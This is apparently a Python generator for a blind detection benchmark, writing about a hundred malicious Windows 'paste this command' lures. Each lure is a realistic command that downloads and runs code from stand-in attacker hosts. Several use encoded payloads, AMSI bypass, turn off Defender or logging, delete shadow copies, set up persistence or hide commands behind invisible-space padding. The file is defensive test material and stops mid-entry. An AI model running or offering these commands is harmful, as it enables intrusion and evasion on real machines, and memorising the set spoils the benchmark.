"""Writes the fifth blind set, bench/blind/lures-5.jsonl and benign-5.jsonl (bench/blind/README.md,
"blind-5"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind5.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list,
app/detection or any case file), from public threat reports on how lures work, aiming at
techniques, staging and social wrappers the first four blind sets did not use (their technique
names and installer pages were read only to avoid them). Every text is our own; lures use
reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges and
2001:db8::/32) and fictitious phone numbers. Not imported by the app or the bench: the bench
reads the jsonl files.
"""

from __future__ import annotations

import base64
import codecs
import io
import ipaddress
import json
import re
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-5.jsonl"
BENIGN_OUT = HERE / "benign-5.jsonl"

# ----------------------------------------------------------------------------------------------
# Encodings lures use (computed, so every encoded text really decodes to its command)
# ----------------------------------------------------------------------------------------------


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def b64_utf32(text: str) -> str:
    return base64.b64encode(text.encode("utf-32-le")).decode()


def rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def zip_b64(name: str, text: str) -> str:
    """A zip archive held in memory (fixed timestamp), base64."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        zf.writestr(info, text)
    return base64.b64encode(buf.getvalue()).decode()


def hex_str(text: str) -> str:
    return text.encode().hex()


def js_xor_codes(text: str, key: int) -> str:
    return ",".join(str(ord(c) ^ key) for c in text)


def percent_all(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def char_arith(text: str, base: int) -> str:
    """PowerShell: each letter as [char](base+n)."""
    return "+".join(f"[char]({base}+{ord(c) - base})" for c in text)


def swap_b64(text: str) -> tuple[str, str, str]:
    """Base64 with two letters of the alphabet swapped through placeholders: (blob, a, b)."""
    blob = b64(text)
    return blob.replace("A", "!").replace("Q", "A").replace("!", "Q"), "A", "Q"


def ip_ints(ip: str) -> int:
    return int(ipaddress.IPv4Address(ip))


NBSP = "\u00a0"
HAIR = "\u200a"
MMSP = "\u205f"
WJ = "\u2060"
NNBSP = "\u202f"
TAGSP = "\U000e0020"


def pad(n: int, ch: str = " ") -> str:
    return ch * n


# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


HUMAN = "# Human verification complete - hCaptcha session 5521-KQ"
BOOKING = "# Reservation 7738120 - guest identity confirmation"
MEET = "# Meet camera driver repair (v4.2)"
ACT = "# Windows & Office permanent activation (works 2026)"

# --- Run box: PowerShell, new ways to name, fetch and run ------------------------------------------

lure(
    "ps-function-drive-new-item",
    RUN,
    "https://www.lakeside-marina.example/moorings",
    "powershell -w h -c \"New-Item -Path function: -Name gate -Value (irm 'https://edge.sync-relay.test/g') | Out-Null; gate\"  "
    + HUMAN,
)
lure(
    "ps-reflection-getmethod-invoke",
    RUN,
    "https://captcha.secure-gateway.invalid/verify",
    "powershell -nop -c \"$w=New-Object Net.WebClient;$m=$w.GetType().GetMethod('DownloadString',[type[]]@([string]));iex $m.Invoke($w,@('https://198.51.100.31/u'))\"",
)
lure(
    "ps-tcpclient-raw-stream",
    RUN,
    "https://www.crossfit-north.example/schedule",
    "powershell -w h -c \"$c=New-Object Net.Sockets.TcpClient('203.0.113.66',8443);$r=New-Object IO.StreamReader($c.GetStream());iex $r.ReadToEnd()\"",
)
lure(
    "ps-blockchain-eth-call",
    RUN,
    "https://verify.bot-shield.test/challenge",
    'powershell -w h -c "$b=\'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x7a3c9b1e5d2f4a6b8c0d1e2f3a4b5c6d7e8f9a0b\\",\\"data\\":\\"0x6d4ce63c\\"},\\"latest\\"],\\"id\\":1}\';$h=(irm \'https://bsc-node.rpc-relay.test/\' -Method Post -Body $b -ContentType \'application/json\').result.Substring(130);iex ([Text.Encoding]::UTF8.GetString([Convert]::FromHexString($h)).Trim([char]0))"',
)
lure(
    "ps-doh-json-txt",
    RUN,
    "https://www.village-bakery.example/orders",
    "powershell -w h -c \"$a=(irm 'https://dns.resolve-hub.test/dns-query?name=cfg.zone-records.test&type=TXT' -Headers @{accept='application/dns-json'}).Answer.data -join '' -replace '\\\"','';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))\"",
)
lure(
    "ps-dns-a-record-octets",
    RUN,
    "https://check.human-proof.invalid/",
    "powershell -w h -c \"$s=-join([Net.Dns]::GetHostAddresses('p1.octet-stage.test')|sort{$_.GetAddressBytes()[0]}|%{$_.GetAddressBytes()[1..3]|?{$_}|%{[char]$_}});iex $s\"",
)
lure(
    "ps-register-psrepository-untrusted",
    RUN,
    "https://portal.driver-assist.test/fix",
    "powershell -c \"Register-PSRepository -Name Fix -SourceLocation 'https://feed.module-mirror.invalid/nuget' -InstallationPolicy Trusted; Install-Module DisplayFix -Repository Fix -Force -Scope CurrentUser; Import-Module DisplayFix; Repair-Display\"",
)
lure(
    "ps-add-appxpackage-uri",
    RUN,
    "https://meet.video-conf-join.test/room/8821",
    "powershell -c \"Add-AppxPackage -Uri 'https://apps.msix-delivery.test/MeetingClient_4.2.0_x64.msix'\"  "
    + MEET,
)
lure(
    "ps-appinstaller-file-url",
    RUN,
    "https://www.vintage-vinyl.example/shop",
    'powershell -c "Add-AppxPackage -AppInstallerFile https://store-update.app-channel.invalid/Player.appinstaller"',
)
lure(
    "ps-rot13-url",
    RUN,
    "https://www.mountain-huts.example/booking",
    "powershell -w h -c \"$u=-join('"
    + rot13("https://cdn.rot-stage.test/r.ps1")
    + "'.ToCharArray()|%{$c=[int]$_;if($c -ge 97 -and $c -le 122){[char](97+($c-84)%26)}else{[char]$c}});iex(irm $u)\"  "
    + BOOKING,
)
lure(
    "ps-utf32-base64",
    RUN,
    "https://verify.cloud-guard.invalid/",
    "powershell -w h -c \"iex([Text.Encoding]::UTF32.GetString([Convert]::FromBase64String('"
    + b64_utf32("iex (irm https://198.51.100.140/w32)")
    + "')))\"",
)
_REV = b64("iex(irm 'https://rev-cdn.test/a')")[::-1]
lure(
    "ps-base64-reversed-blob",
    RUN,
    "https://www.tennis-club-ost.example/courts",
    "powershell -w h -c \"$r='"
    + _REV
    + "'.ToCharArray();[array]::Reverse($r);iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $r)))\"",
)
_SPLIT = b64("iwr https://split-drop.test/p -UseB | iex")
lure(
    "ps-base64-split-variables",
    RUN,
    "https://human-check.captcha-line.test/",
    f"powershell -w h -c \"$a='{_SPLIT[:14]}';$b='{_SPLIT[14:30]}';$c='{_SPLIT[30:]}';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a+$b+$c)))\"",
)
_SW, _A, _B = swap_b64("iex(irm https://swap-cdn.invalid/Q)")
lure(
    "ps-base64-alphabet-swap",
    RUN,
    "https://www.kayak-rentals.example/tours",
    f"powershell -w h -c \"$d='{_SW}'.Replace('{_A}','~').Replace('{_B}','{_A}').Replace('~','{_B}');iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))\"",
)
lure(
    "ps-webutility-urldecode",
    RUN,
    "https://verify.access-shield.test/go",
    "powershell -w h -c \"iex ([Net.WebUtility]::UrlDecode('"
    + percent_all("iex (irm https://203.0.113.150/pct)")
    + "'))\"",
)
_CHARR = b64("irm https://chararray-cdn.test/s | iex")
lure(
    "ps-frombase64chararray",
    RUN,
    "https://www.orchard-cider.example/visit",
    f"powershell -w h -c \"$t='{_CHARR}';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64CharArray($t.ToCharArray(),0,$t.Length)))\"",
)
lure(
    "ps-in-memory-zip-archive",
    RUN,
    "https://challenge.turn-verify.invalid/",
    "powershell -w h -c \"Add-Type -A System.IO.Compression;$z=New-Object IO.Compression.ZipArchive([IO.MemoryStream][Convert]::FromBase64String('"
    + zip_b64("s.ps1", "iex (irm https://zip-stage.test/k)")
    + "'));iex (New-Object IO.StreamReader($z.Entries[0].Open())).ReadToEnd()\"",
)
lure(
    "ps-scriptcontrol-jscript",
    RUN,
    "https://www.folk-festival.example/tickets",
    'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -c "$s=New-Object -ComObject MSScriptControl.ScriptControl;$s.Language=\'JScript\';$s.AddCode(\'var x=new ActiveXObject(\\"WScript.Shell\\");x.Run(\\"mshta https://jscript-stage.test/h\\",0)\')"',
)
lure(
    "ps-internetexplorer-com-body",
    RUN,
    "https://verify.browser-check.invalid/",
    "powershell -w h -c \"$i=New-Object -ComObject InternetExplorer.Application;$i.Visible=$false;$i.Navigate('https://ie-stage.test/p.txt');while($i.Busy){sleep 1};iex $i.Document.body.innerText\"",
)
lure(
    "ps-xmldocument-load-remote",
    RUN,
    "https://www.brewery-tours.example/",
    "powershell -w h -c \"$x=New-Object Xml.XmlDocument;$x.Load('https://feeds.xml-relay.test/news.xml');iex $x.rss.channel.item.description\"",
)
lure(
    "ps-import-module-webdav",
    RUN,
    "https://captcha.visitor-check.test/",
    'powershell -w h -c "Import-Module \\\\mod-share.webdav-host.invalid@SSL\\DavWWWRoot\\Fix.psm1; Start-Fix"',
)
lure(
    "ps-dot-source-unc-port",
    RUN,
    "https://www.ski-school.example/lessons",
    'powershell -w h -c ". \\\\203.0.113.71@8080\\tools\\check.ps1"',
)
lure(
    "ps-alternate-data-stream",
    RUN,
    "https://verify.doc-unlock.test/",
    'powershell -w h -c "Set-Content \\"$env:TEMP\\log.txt:z\\" (irm \'https://ads-stage.invalid/z\');iex (Get-Content \\"$env:TEMP\\log.txt:z\\" -Raw)"',
)
lure(
    "ps-wmi-event-subscription",
    RUN,
    "https://www.roof-repair-pros.example/quote",
    "powershell -w h -c \"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='u';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=\\\"SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\\\"};$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='u';CommandLineTemplate='mshta https://wmi-stage.test/u'};Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}\"",
)
lure(
    "ps-invoke-wmimethod-create",
    RUN,
    "https://check.robot-filter.invalid/",
    "powershell -w h -c \"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'mshta https://wmim-stage.test/v.hta'\"",
)
lure(
    "ps-new-service-persistence",
    RUN,
    "https://www.print-shop-express.example/upload",
    "powershell -c \"New-Service -Name PrintAssist -BinaryPathName 'cmd /c powershell -w h -c iex(irm https://svc-stage.invalid/p)' -StartupType Automatic; Start-Service PrintAssist\"",
)
lure(
    "ps-defender-cloud-reporting-off",
    RUN,
    "https://verify.secure-pass.test/",
    'powershell -c "Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2 -PUAProtection 0; iex(irm https://198.51.100.202/d)"',
)
lure(
    "ps-amsi-init-failed",
    RUN,
    "https://www.guitar-lessons-online.example/",
    "powershell -w h -c \"[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true);iex(irm https://amsi-stage.test/a)\"",
)
lure(
    "ps-scriptblock-logging-off",
    RUN,
    "https://human.verify-step.invalid/",
    'powershell -c "New-Item HKCU:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging -Force|Out-Null;Set-ItemProperty HKCU:\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging EnableScriptBlockLogging 0;iex(irm https://log-off.test/s)"',
)
lure(
    "ps-nested-pipeline-host-runspace",
    RUN,
    "https://www.wedding-florist.example/gallery",
    "powershell -w h -c \"$Host.Runspace.CreateNestedPipeline((irm 'https://nest-stage.invalid/n'),$false).Invoke()\"",
)
lure(
    "ps-paste-site-raw",
    RUN,
    "https://verify.pass-check.test/",
    'powershell -w h -c "irm https://paste.snip-share.invalid/raw/Qm3xT9 | iex"  # verification token 0xA7F2',
)
lure(
    "ps-cloud-bucket-r2-style",
    RUN,
    "https://www.pottery-studio.example/classes",
    'powershell -w h -c "iwr https://pub-3f1c8a.r2-objects.test/loader.ps1 -UseBasicParsing | iex"',
)
lure(
    "ps-drive-uc-export-download",
    RUN,
    "https://invoice.doc-portal.invalid/view",
    "powershell -w h -c \"iwr 'https://drive.docs-usercontent.test/uc?export=download&id=1aZ9kQ3xY7' -OutFile $env:TEMP\\inv.zip;Expand-Archive $env:TEMP\\inv.zip $env:TEMP\\inv -Force;& $env:TEMP\\inv\\Invoice.exe\"",
)
lure(
    "ps-vendor-name-inside-host",
    RUN,
    "https://www.cat-rescue-shelter.example/adopt",
    'powershell -w h -c "irm https://raw.githubusercontent.com.cdn-raw.test/msft/winfix/main/fix.ps1 | iex"',
)
lure(
    "ps-chat-cdn-attachment",
    RUN,
    "https://gaming.clan-recruit.test/apply",
    "powershell -w h -c \"iwr 'https://cdn.chatapp-files.invalid/attachments/1188/2291/AntiCheat.exe' -OutFile $env:APPDATA\\ac.exe; saps $env:APPDATA\\ac.exe\"",
)
lure(
    "ps-dead-drop-profile-marker",
    RUN,
    "https://verify.trusted-visit.test/",
    "powershell -w h -c \"$p=(iwr 'https://community.profile-board.invalid/id/7788221' -UseB).Content;$u=[regex]::Match($p,'(?<=BEGIN\\|)[^|]+(?=\\|END)').Value;iex(irm $u)\"",
)
lure(
    "ps-culture-geofence",
    RUN,
    "https://www.bike-repair-cafe.example/",
    "powershell -w h -c \"if((Get-Culture).Name -notmatch 'ru|uk|be|kk'){iex(irm https://geo-stage.test/g)}\"",
)
lure(
    "ps-vm-check-before-run",
    RUN,
    "https://captcha.verify-human.invalid/",
    "powershell -w h -c \"if((gwmi Win32_ComputerSystem).Model -notmatch 'Virtual|VMware|KVM'){iex(irm https://203.0.113.181/vmc)}\"",
)
lure(
    "ps-trim-junk-name",
    RUN,
    "https://www.board-game-cafe.example/events",
    "powershell -w h -c \"&('___iex___'.Trim('_')) (&('~~irm~~'.Trim('~')) https://trim-stage.test/t)\"",
)
lure(
    "ps-char-arithmetic-name",
    RUN,
    "https://check.page-guard.invalid/",
    'powershell -w h -c "&(' + char_arith("iex", 96) + ') (irm https://arith-stage.test/c)"',
)
lure(
    "ps-get-variable-wildcard-context",
    RUN,
    "https://www.hiking-maps.example/routes",
    'powershell -w h -c "(Get-Variable E*onte*t -ValueOnly).InvokeCommand.InvokeScript((irm https://gv-stage.invalid/e))"',
)
lure(
    "ps-tiktok-activation-typosquat",
    RUN,
    "https://www.free-activation-guide.test/windows-11",
    'powershell -c "irm https://get.activate-win.invalid | iex"  ' + ACT,
)
lure(
    "ps-excel-com-registerxll",
    RUN,
    "https://quote.supplier-portal.test/rfq",
    "powershell -w h -c \"$x=New-Object -ComObject Excel.Application;$x.RegisterXLL('\\\\xll-share.doc-host.invalid@SSL\\DavWWWRoot\\Pricing.xll')\"",
)
lure(
    "ps-mmc20-com-execute",
    RUN,
    "https://www.language-school.example/enrol",
    "powershell -w h -c \"$m=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application'));$m.Document.ActiveView.ExecuteShellCommand('mshta',$null,'https://mmc-stage.test/m.hta','7')\"",
)
lure(
    "ps-shellbrowserwindow-clsid",
    RUN,
    "https://verify.edge-check.invalid/",
    "powershell -w h -c \"$o=[activator]::CreateInstance([type]::GetTypeFromCLSID('C08AFD90-F2A1-11D1-8455-00A0C91F3880'));$o.Document.Application.ShellExecute('mshta','https://clsid-stage.test/c.hta','','',0)\"",
)

# --- Run box: cmd spellings and signed programs the earlier sets did not use ------------------------

lure(
    "cmd-stdin-from-webdav",
    RUN,
    "https://www.daycare-sunflower.example/register",
    "cmd < \\\\198.51.100.20@80\\DavWWWRoot\\steps.txt",
)
lure(
    "cmd-type-unc-pipe-cmd",
    RUN,
    "https://verify.gate-pass.invalid/",
    "cmd /c type \\\\files.share-node.test\\pub\\v.txt | cmd",
)
lure(
    "cmd-curl-pipe-cmd",
    RUN,
    "https://www.home-brewing-club.example/recipes",
    "cmd /c curl -s https://203.0.113.88/b.txt | cmd  " + HUMAN,
)
lure(
    "cmd-ftp-script-download",
    RUN,
    "https://check.visitor-gate.test/",
    'cmd /c "echo open 203.0.113.7>%tmp%\\f.txt&echo anonymous>>%tmp%\\f.txt&echo x>>%tmp%\\f.txt&echo binary>>%tmp%\\f.txt&echo get upd.exe %tmp%\\upd.exe>>%tmp%\\f.txt&echo bye>>%tmp%\\f.txt&ftp -s:%tmp%\\f.txt&start %tmp%\\upd.exe"',
)
lure(
    "cmd-reg-import-unc",
    RUN,
    "https://www.classic-car-parts.example/catalogue",
    "reg import \\\\reg-share.config-host.invalid\\pub\\DisplayFix.reg",
)
lure(
    "cmd-sc-create-service",
    RUN,
    "https://verify.human-step.test/",
    'cmd /c sc create WinDisplayFix binPath= "cmd /c mshta https://svc-hta.invalid/f.hta" start= auto && sc start WinDisplayFix',
)
lure(
    "cmd-netsh-helper-unc",
    RUN,
    "https://www.allotment-society.example/plots",
    "netsh add helper \\\\198.51.100.92\\share\\nethelp.dll",
)
lure(
    "cmd-shadow-copies-delete-then-run",
    RUN,
    "https://captcha.page-verify.invalid/",
    "cmd /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no & curl -so %tmp%\\r.exe https://203.0.113.240/r.exe & %tmp%\\r.exe",
)
lure(
    "cmd-clear-event-logs-then-run",
    RUN,
    "https://www.dog-grooming-studio.example/book",
    'cmd /c wevtutil cl Security & wevtutil cl System & wevtutil cl "Windows PowerShell" & mshta https://logclean-stage.test/l.hta',
)
lure(
    "cmd-comma-semicolon-delimiters",
    RUN,
    "https://verify.safe-browse.invalid/",
    "cmd /c ,;powershell,;-w,;h,;-c,;iex(irm https://delim-stage.test/d)",
)
lure(
    "cmd-paren-group-wrap",
    RUN,
    "https://www.marathon-training.example/plan",
    "cmd /c (((mshta.exe https://paren-stage.invalid/p.hta)))",
)
lure(
    "cmd-if-defined-wrapper",
    RUN,
    "https://check.trust-layer.test/",
    'cmd /c if defined windir (powershell -w h -c "iwr https://ifdef-stage.invalid/x -UseB|iex")',
)
lure(
    "explorer-root-webdav",
    RUN,
    "https://invoice.pay-portal.test/download",
    'explorer.exe /root,"\\\\docs.invoice-share.invalid@SSL\\DavWWWRoot\\Invoices"',
)
lure(
    "rundll32-ieframe-openurl",
    RUN,
    "https://www.craft-beer-fest.example/",
    "rundll32.exe ieframe.dll,OpenURL \\\\url-share.link-host.test\\pub\\verify.url",
)
lure(
    "rundll32-shdocvw-openurl",
    RUN,
    "https://verify.page-shield.invalid/",
    "rundll32 shdocvw.dll,OpenURL \\\\198.51.100.43@80\\DavWWWRoot\\update.url",
)
lure(
    "rundll32-dfshim-clickonce",
    RUN,
    "https://www.swimming-lessons.example/timetable",
    "rundll32.exe dfshim.dll,ShOpenVerbApplication https://apps.clickonce-host.test/Viewer/Viewer.application",
)
lure(
    "clickonce-application-start",
    RUN,
    "https://meet.webinar-join.invalid/room",
    "cmd /c start https://deploy.oneclick-apps.test/MeetingHelper.application  " + MEET,
)
lure(
    "mmc-msc-webdav",
    RUN,
    "https://report.shared-docs.test/q4",
    "mmc.exe \\\\msc-share.doc-relay.invalid@SSL\\DavWWWRoot\\Q4-Report.msc",
)
lure(
    "msc-download-open",
    RUN,
    "https://www.antique-clocks.example/repairs",
    "cmd /c curl -so %TEMP%\\fix.msc https://203.0.113.35/fix.msc && start %TEMP%\\fix.msc",
)
lure(
    "diantz-unc-cab-expand",
    RUN,
    "https://verify.robot-gate.invalid/",
    "cmd /c diantz \\\\cab-share.file-relay.test\\s\\u.exe %TEMP%\\u.cab && expand %TEMP%\\u.cab %TEMP%\\u.exe && %TEMP%\\u.exe",
)
lure(
    "manage-bde-wsf-comspec",
    RUN,
    "https://www.chess-club-west.example/",
    'cmd /c "curl -so %TEMP%\\c.exe https://bde-stage.test/c.exe && set comspec=%TEMP%\\c.exe && cscript //nologo %windir%\\System32\\manage-bde.wsf"',
)
lure(
    "cl-mutexverifiers-ps1",
    RUN,
    "https://check.site-human.invalid/",
    'powershell -c ". C:\\Windows\\diagnostics\\system\\AERO\\CL_Mutexverifiers.ps1; runAfterCancelProcess \\\\203.0.113.99\\s\\p.exe"',
)
lure(
    "cl-invocation-syncinvoke",
    RUN,
    "https://www.community-garden.example/volunteer",
    'powershell -c ". C:\\Windows\\diagnostics\\system\\Audio\\CL_Invocation.ps1; SyncInvoke mshta https://clinv-stage.test/a.hta"',
)
lure(
    "pester-bat-proxy",
    RUN,
    "https://verify.web-pass.invalid/",
    '"C:\\Program Files\\WindowsPowerShell\\Modules\\Pester\\3.4.0\\bin\\Pester.bat" /help "$null; iex(irm https://pester-stage.test/p)"',
)
lure(
    "csc-compile-downloaded-source",
    RUN,
    "https://www.music-theory-hub.example/",
    "cmd /c curl -so %TEMP%\\u.cs https://csc-stage.invalid/u.cs && C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /nologo /out:%TEMP%\\u.exe %TEMP%\\u.cs && %TEMP%\\u.exe",
)
lure(
    "jsc-compile-downloaded-source",
    RUN,
    "https://check.browser-guard.test/",
    "cmd /c curl -so %TEMP%\\j.js https://jsc-stage.invalid/j.js && C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\jsc.exe /out:%TEMP%\\j.exe %TEMP%\\j.js && %TEMP%\\j.exe",
)
lure(
    "office-uri-ms-word-ofe",
    RUN,
    "https://hr.payroll-review.test/letter",
    "ms-word:ofe|u|https://docs.hr-letters.invalid/Salary-Review-2026.docm",
)
lure(
    "office-uri-ms-excel-webdav",
    RUN,
    "https://www.freight-quotes.example/rates",
    "ms-excel:ofv|u|\\\\sheets.rate-share.test@SSL\\DavWWWRoot\\Rates.xlsm",
)
lure(
    "wuauclt-deployment-provider",
    RUN,
    "https://verify.update-check.invalid/",
    "wuauclt.exe /UpdateDeploymentProvider \\\\198.51.100.118\\share\\wudp.dll /RunHandlerComServer",
)
lure(
    "certoc-getcacaps-download",
    RUN,
    "https://www.surf-school-bay.example/",
    "cmd /c certoc.exe -GetCACAPS https://caps-stage.test/p.ps1 > %TEMP%\\p.ps1 & powershell -ep bypass -f %TEMP%\\p.ps1",
)
lure(
    "ieexec-remote-exe",
    RUN,
    "https://check.verify-flow.invalid/",
    "C:\\Windows\\Microsoft.NET\\Framework\\v2.0.50727\\ieexec.exe https://ieexec-stage.test/helper.exe",
)
lure(
    "msiexec-package-switch-url",
    RUN,
    "https://www.farmers-market-live.example/",
    "msiexec /package https://msi-cdn.package-relay.invalid/ZoomAudioFix.msi /quiet  # Zoom audio fix",
)
lure(
    "msiexec-transforms-url",
    RUN,
    "https://verify.portal-access.test/",
    "msiexec /i C:\\Windows\\Installer\\3f1a2b.msi TRANSFORMS=https://mst-stage.invalid/t.mst /qn",
)
lure(
    "winget-local-manifest-unc",
    RUN,
    "https://www.yacht-charter-med.example/fleet",
    "winget install --manifest \\\\pkg-share.winget-mirror.test\\m\\Fix --accept-package-agreements --accept-source-agreements",
)
lure(
    "pnputil-driver-unc",
    RUN,
    "https://verify.device-check.invalid/",
    "pnputil /add-driver \\\\drv-share.driver-hub.test\\pub\\audio.inf /install",
)
lure(
    "rundll32-pcwutl-launch",
    RUN,
    "https://www.karate-dojo.example/grading",
    "cmd /c curl -so %TEMP%\\h.exe https://pcw-stage.invalid/h.exe & rundll32 pcwutl.dll,LaunchApplication %TEMP%\\h.exe",
)
lure(
    "rundll32-setupapi-inf-unc",
    RUN,
    "https://check.cf-human.test/",
    "rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 \\\\inf-share.setup-relay.invalid\\s\\fix.inf",
)
lure(
    "library-ms-webdav",
    RUN,
    "https://www.bridal-boutique.example/appointments",
    "\\\\lib-share.docs-relay.test@SSL\\DavWWWRoot\\Documents.library-ms",
)
lure(
    "searchconnector-ms-webdav",
    RUN,
    "https://verify.files-open.invalid/",
    "explorer \\\\203.0.113.145@SSL@443\\DavWWWRoot\\Shared.searchConnector-ms",
)
lure(
    "bsod-recovery-safemode-ps",
    RUN,
    "https://support.crash-recovery.test/bsod",
    'powershell -w h -c "bcdedit /set {current} safeboot minimal; iex(irm https://bsod-stage.invalid/r)"  # STOP 0x0000007E recovery',
)
lure(
    "booking-guest-verify-mshta",
    RUN,
    "https://admin.hotel-extranet-login.test/reservations",
    "mshta https://guest-verify.stay-confirm.invalid/id.hta " + BOOKING,
)
lure(
    "ai-chat-share-runbox",
    RUN,
    "https://share.ai-answers.invalid/c/5b0e-clean-disk",
    'powershell -c "iex (iwr https://disk-cleaner.tools-cdn.test/clean.ps1 -UseB).Content"  # Free up 30 GB (from the shared AI answer)',
)
lure(
    "font-missing-update-cmd",
    RUN,
    "https://www.news-daily-mirror.example/story/88",
    'cmd /c start /min powershell -w h -c "iwr https://font-pack.glyph-update.test/HoeflerText.ps1 -UseB|iex"  # Install missing font: Hoefler Text',
)
lure(
    "onedrive-sync-error-fix",
    RUN,
    "https://share.onedrive-sync-help.invalid/fix",
    "cmd /c curl.exe -k -L https://sync-repair.file-cdn.test/OneDriveRepair.zip -o %LOCALAPPDATA%\\odr.zip && tar -xf %LOCALAPPDATA%\\odr.zip -C %LOCALAPPDATA% && start %LOCALAPPDATA%\\OneDriveRepair.exe",
)

# --- FileFix: Explorer's address bar -------------------------------------------------------------

HRDOC = "C:\\Company\\Finance\\Q4\\Supplier-Remittance-8812.pdf"
lure(
    "filefix-tag-space-padding",
    EXP,
    "https://share.remittance-docs.test/open",
    'powershell -w h -c "iex(irm https://tagpad-stage.invalid/f)"' + pad(60, TAGSP) + "# " + HRDOC,
)
lure(
    "filefix-word-joiner-padding",
    EXP,
    "https://www.tile-warehouse.example/samples",
    "mshta https://wj-stage.test/o.hta" + pad(70, WJ + " ") + "# " + HRDOC,
)
lure(
    "filefix-hair-space-padding",
    EXP,
    "https://docs.contract-sign.invalid/view",
    "cmd /c curl -s https://hair-stage.test/c.bat -o %TEMP%\\c.bat & %TEMP%\\c.bat"
    + pad(80, HAIR)
    + "# "
    + HRDOC,
)
lure(
    "filefix-medium-math-space-padding",
    EXP,
    "https://www.lawn-care-experts.example/estimate",
    'pwsh -w h -c "irm https://mmsp-stage.invalid/m|iex"'
    + pad(70, MMSP)
    + "# C:\\Users\\Public\\Scans\\Estimate-2291.pdf",
)
lure(
    "filefix-narrow-nbsp-padding",
    EXP,
    "https://portal.tenant-docs.test/lease",
    'powershell -c "saps mshta https://nnbsp-stage.invalid/l.hta"'
    + pad(70, NNBSP)
    + "# \\\\fileserver\\Leases\\Lease-Agreement-2026.docx",
)
lure(
    "filefix-mmc-msc",
    EXP,
    "https://www.paint-and-sip.example/events",
    "mmc \\\\msc-drop.console-share.invalid@SSL\\DavWWWRoot\\Policy.msc"
    + pad(50)
    + "# C:\\HR\\Policies\\Travel-Policy.pdf",
)
lure(
    "filefix-rundll32-setupapi",
    EXP,
    "https://hr.benefits-enrol.test/form",
    "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 128 \\\\203.0.113.57\\s\\b.inf"
    + pad(50)
    + "# C:\\HR\\Benefits\\Enrolment-Form.pdf",
)
lure(
    "filefix-cloud-bucket-ps",
    EXP,
    "https://www.harbour-seafood.example/menu",
    'powershell -w h -c "iwr https://objects.bucket-store.invalid/b/p.ps1 -UseB|iex"'
    + pad(60)
    + "# C:\\Menus\\Winter-Menu.pdf",
)
lure(
    "filefix-utf32-encoded",
    EXP,
    "https://docs.tender-board.test/rfp",
    "powershell -w h -c \"iex([Text.Encoding]::UTF32.GetString([Convert]::FromBase64String('"
    + b64_utf32("iex(irm https://198.51.100.166/t)")
    + "')))\""
    + pad(40)
    + "# C:\\Tenders\\RFP-2026-17.pdf",
)
lure(
    "filefix-library-ms",
    EXP,
    "https://www.stationery-supplies.example/order",
    "\\\\203.0.113.212@SSL\\DavWWWRoot\\Orders.library-ms" + pad(40) + "# C:\\Orders\\PO-55120.pdf",
)
lure(
    "filefix-office-uri",
    EXP,
    "https://share.board-minutes.invalid/doc",
    "ms-word:ofe|u|https://minutes.doc-relay.test/Board-Minutes.docm"
    + pad(40)
    + "# C:\\Board\\Minutes-Dec.docx",
)
lure(
    "filefix-cmd-comma-delimiters",
    EXP,
    "https://www.violin-repair.example/",
    "cmd /c ,;mshta,;https://comma-stage.invalid/v.hta"
    + pad(60)
    + "# C:\\Invoices\\Repair-771.pdf",
)

# --- Windows Terminal (Win+X, I) ---------------------------------------------------------------------

lure(
    "terminal-winget-configure-url",
    TERM,
    "https://dev.setup-guide-portal.test/onboarding",
    "winget configure -f https://cfg.dsc-mirror.invalid/dev-setup.dsc.yaml --accept-configuration-agreements --disable-interactivity",
)
lure(
    "terminal-ps-untrusted-repository",
    TERM,
    "https://www.fishing-forum.example/t/44812",
